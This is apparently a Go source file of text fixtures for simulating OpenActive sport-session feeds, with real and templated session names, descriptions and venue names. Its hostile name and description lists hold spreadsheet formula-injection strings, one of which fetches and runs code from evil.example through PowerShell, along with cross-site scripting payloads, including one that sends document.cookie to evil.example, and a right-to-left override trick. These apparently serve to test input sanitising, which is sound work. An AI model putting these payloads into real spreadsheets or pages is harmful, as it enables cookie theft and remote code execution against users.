package simulate

// Text content. The real names and descriptions come from the OpenActive
// sample items (publishers' CC BY 4.0 open data; see data/SOURCES.md); the
// rest is written to read like them.

var realNames = map[string]string{
	"Badminton":        "No Strings Badminton - Thursday daytime",
	"Bodypump™":        "Virtual BODYPUMP",
	"Boxing":           "Shadow Box Fit",
	"Crossfit":         "WOD Class",
	"Netball":          "Netball Youth Camp",
	"Tennis":           "Outdoor Tennis",
	"Squash":           "Squash Activities ST",
	"Dance":            "S4K TV - Dance",
	"Aerobics":         "Bodyattack® Fri 7am",
	"Cycling":          "Alan's social ride group Gorhambury House loop",
	"Early Years Play": "Creche 3-5yrs 2hrs",
}

var realDescriptions = []string{
	"A combination of athletic movements such as running, jumping, and lunging, combined with squats and push-ups. This class involves building your stamina, coordination and agility, making you fitter.",
	"This is the virtual version of the original barbell class, which will help you get lean, toned and fit - fast. The classes are played on a big video screen, with dimmed lighting and pumping surround sound.",
	"Pay and play badminton sessions. Coordinated by a Badminton England accredited Level 2 Coach. Please pay at Reception and hand your receipt to the coach.",
	"Netball Youth Camps give junior netballers the chance to get together with their friends and take to the court in the holidays!",
	"CrossFit's unique strength and conditioning training method, based around a mixture of Olympic weightlifting, CV and Gymnastics. Train for fun, to aid your sport, or to get fitter.",
	"Tennis courts are available to hire for thirty minute slots.",
	"Sessions include a coaching session on basic skills for beginners and intermediate players.",
}

var nameSuffixes = []string{
	" for Beginners", " - Thursday daytime", " Over 50s", " Family Session", " (Women only)", " Drop-in",
	" Social", " Fri 7am", " Club Night", " Improvers", " - Pay and Play", " Taster", " for Health",
	" Gentle", " Mornings", "",
}

var descTemplates = []string{
	"A friendly %s session for all abilities at %s. No experience needed: our coach will show you the basics and help you go at your own pace.",
	"Join us for %s at %s. A relaxed, welcoming group that is ideal if you are getting active again after illness or a long break.",
	"%s for adults of every fitness level. Sessions run weekly at %s; come along, meet new people and have fun while you get fitter.",
	"Our %s sessions at %s are led by qualified instructors and suitable for people with long-term health conditions. Talk to us about any support you need.",
}

var shortDescriptions = []string{"Fun session", "Weekly class", "Book online", "All welcome"}

var hostileNames = []string{
	`=HYPERLINK("http://evil.example/","Click for a free session")`,
	`<script>alert('feedgauge')</script> Yoga`,
	`+SUM(1+1)*cmd|' /C calc'!A0`,
	`@SUM(A1:A9) Zumba`,
	`-2+3 Walking <b>Club</b>`,
	"Tai Chi \u202eevil\u202c <img src=x onerror=alert(1)>",
}

var hostileDescriptions = []string{
	`<p>Come and <b>join</b> us!</p><script>document.location='http://evil.example/'+document.cookie</script> Everyone is welcome at this session.`,
	`=cmd|'/C powershell IEX(wget evil.example)'!A0 and a description that is long enough to count.`,
}

var venueKinds = []string{"%s Leisure Centre", "%s Community Centre", "St Mary's Church Hall, %s", "%s Park", "%s Sports Village", "%s Library Hall", "%s Methodist Church Hall", "%s Pool"}

var publisherKinds = []string{"%s Leisure Trust", "Active %s", "%s Community Sports", "%s Wellbeing Partnership", "Move More %s", "%s Sports Council", "%s Walking for Health", "Better Health %s"}

var clubKinds = []string{"%s %s Club", "Friends of %s %s", "%s %s Group", "%s %s Collective"}

var givenNames = []string{"Nicole", "Alan", "Priya", "Tom", "Aisha", "Gareth", "Siobhan", "Daniel", "Mei", "Kwame", "Joanne", "Ravi"}
var familyNames = []string{"Smith", "Patel", "Jones", "Okafor", "Williams", "Brown", "Khan", "Taylor", "Hughes", "Evans", "Wilson", "Ahmed"}

var levels = []string{"Beginner", "Intermediate", "Advanced", "All levels"}
var categories = []string{"Low Intensity", "Suitable For All", "Group Exercise Classes", "Toning & Strength"}
var instructions = []string{
	"Please arrive 10 minutes early and wear comfortable clothing.",
	"Bring a water bottle and a towel. Mats are provided.",
	"Meet at the main reception; the instructor will collect you.",
}
